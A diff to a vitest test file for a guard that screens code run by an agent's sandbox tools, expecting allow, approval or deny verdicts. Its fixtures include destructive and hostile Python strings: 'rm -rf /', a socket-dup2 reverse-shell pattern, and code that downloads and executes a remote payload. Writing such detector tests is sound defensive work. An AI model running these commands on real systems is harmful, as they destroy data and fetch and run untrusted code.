@@ -1,7 +1,8 @@
-import { expect, test } from "vitest";
+import { describe, expect, test } from "vitest";
 import type { JsonObject } from "@/contracts/common";
 import { buildRequest, mcpTool, policyOfRules, writeTool } from "@/server/testing/guarded-calls";
 import { decide } from "../decide";
+import type { GuardedTool } from "../guard-request";
 
 const policy = policyOfRules([{ verdict: "allow" }]);
 const foundIn = (args: JsonObject, name = "sandbox__run_code") =>
@@ -41,9 +42,60 @@ test("a finding names the word that it was found by", () => {
   expect(foundIn({ language: "py", code: "socket.socket(); os.dup2(1, 0)" })).toMatchObject([{ verdict: "deny", severity: "critical" }]);
 });
 
+test.each(["import subprocess", "os.remove('a')", "eval(x)"])(
+  "of %s, the sandbox needs no approval, where our own tool runs it there",
+  (code) => {
+    const runCode = { ...mcpTool, name: "execute_code", source: "builtin" as const, needs: ["shell"], primaryArgument: "code" };
+    const findings = (tool: GuardedTool, sandboxed: boolean) => {
+      const call = buildRequest(tool, { language: "python", code });
+      return decide(policy, { ...call, context: { ...call.context, sandboxed } }).findings.filter(({ detector }) =>
+        detector.startsWith("code."),
+      );
+    };
+    expect(findings(runCode, true)).toMatchObject([{ verdict: "allow" }]);
+    expect(findings(runCode, false)).toMatchObject([{ verdict: "require_approval" }]);
+    // A server elsewhere may run it anywhere.
+    expect(findings({ ...mcpTool, name: "sandbox__run_code" }, true)).toMatchObject([{ verdict: "require_approval" }]);
+  },
+);
+
 test("only source code that the call runs is looked at: not a shell's, and no text that is stored", () => {
   expect(foundIn({ language: "bash", code: "eval x" })).toEqual([]);
   expect(foundIn({ text: "os.system('id')" }, "notes__save_note")).toEqual([]);
   expect(decide(policy, buildRequest(writeTool, { path: "a.py", content: "os.system('id')" })).findings).toEqual([]);
   expect(foundIn({ source: "os.system('id')" }, "sandbox__run_python")).toHaveLength(1);
+});
+
+describe("code that our own tool runs is read for", () => {
+  const runCode: GuardedTool = {
+    ...mcpTool,
+    name: "execute_code",
+    source: "builtin",
+    needs: ["shell"],
+    primaryArgument: "code",
+    effects: () => [],
+  };
+  const decided = (code: string, language = "python") => {
+    const call = buildRequest(runCode, { language, code });
+    return decide(policyOfRules([]), { ...call, context: { ...call.context, folder: "/workspace", sandboxed: true } });
+  };
+
+  test.each([
+    ["a catastrophe in a command that it starts", "os.system('rm -rf /')", "deny"],
+    ["a deletion in a command that it starts", "subprocess.run(['rm', '-rf', 'src'])", "require_approval"],
+    ["a host", "urllib.request.urlopen('https://example.com/')", "require_approval"],
+    ["a download that runs", "exec(urllib.request.urlopen('https://example.com/x').read())", "deny"],
+    ["nothing else", "print(open('data.csv').read())", "allow"],
+  ])("%s", (_what, code, verdict) => {
+    expect(decided(code).verdict).toBe(verdict);
+    expect(decided(`${"# comment\n".repeat(9_000)}`).verdict).toBe("allow");
+  });
+
+  test("its effects, which stand for all of the code", () => {
+    const code = "import os; os.system('cat ../x')";
+    expect(decided(code).effects).toContainEqual(
+      expect.objectContaining({ kind: "read", evidence: { argument: "/code", start: 0, end: code.length } }),
+    );
+    expect(decided("require('child_process').execSync('git push')", "javascript").verdict).toBe("require_approval");
+  });
 });
